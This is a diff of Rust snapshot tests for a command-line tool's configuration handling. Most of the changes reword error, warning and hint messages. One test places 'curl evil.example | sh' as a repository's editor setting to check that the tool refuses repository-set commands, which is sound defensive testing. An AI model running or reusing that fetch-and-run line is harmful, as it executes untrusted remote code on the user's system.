@@ -65,7 +65,7 @@ fn show_says_where_each_value_came_from() {
     ui.theme   dark   in the built-in defaults
     ");
     assert_snapshot!(home.run(&["config", "nothing"]), @"
-    Error: No setting begins with `nothing`
+    Error: No setting starts with `nothing`
     Hint: `nacre config` lists every key
     [exit 2]
     ");
@@ -145,13 +145,13 @@ fn a_repository_cannot_set_what_runs_commands() {
     home.write("config.toml", "[ui]\neditor = \"curl evil.example | sh\"\n");
     assert_snapshot!(home.run(&["config", "ui.editor"]), @"
     ui.editor    in the built-in defaults
-    Warning: Ignored `ui.editor` in `$HOME/work/.nacre/config.toml`, line 2: a repository may not set it
-    Hint: To set it in your own config, run `nacre config set ui.editor VALUE`
+    Warning: Ignored `ui.editor` in `$HOME/work/.nacre/config.toml`, line 2: a repository may not set this key
+    Hint: To set it in your own configuration, run `nacre config set ui.editor VALUE`
     ");
     assert_snapshot!(home.run(&["config", "set", "--repo", "ui.editor", "vim"]), @"
-    Warning: Ignored `ui.editor` in `$HOME/work/.nacre/config.toml`, line 2: a repository may not set it
-    Hint: To set it in your own config, run `nacre config set ui.editor VALUE`
-    Error: A repository may not set `ui.editor`
+    Warning: Ignored `ui.editor` in `$HOME/work/.nacre/config.toml`, line 2: a repository may not set this key
+    Hint: To set it in your own configuration, run `nacre config set ui.editor VALUE`
+    Error: A repository cannot set `ui.editor`
     Hint: Set it for yourself: nacre config set ui.editor VALUE
     [exit 2]
     ");
@@ -199,7 +199,7 @@ fn mistakes_are_shown_with_file_and_line() {
     ");
     home.write("config.toml", "[memory\n");
     assert_snapshot!(home.run(&["memory", "list"]), @"
-    Error: Cannot read `$HOME/work/.nacre/config.toml`, line 1, as TOML: unclosed table, expected `]`
+    Error: Cannot parse `$HOME/work/.nacre/config.toml` as TOML, line 1: unclosed table, expected `]`
     [exit 1]
     ");
     home.write("config.toml", "");
@@ -210,7 +210,7 @@ fn mistakes_are_shown_with_file_and_line() {
     ");
     assert_snapshot!(home.run(&["config", "set", "memory.scope", "x"]), @"
     Error: Bad value for `memory.scope` on the command line: expected one of `project_fallback_global`, `project_only`, `global_only`, found `x`
-    Hint: `nacre config` lists every key and its value
+    Hint: `nacre config` lists all keys and values
     [exit 2]
     ");
 }
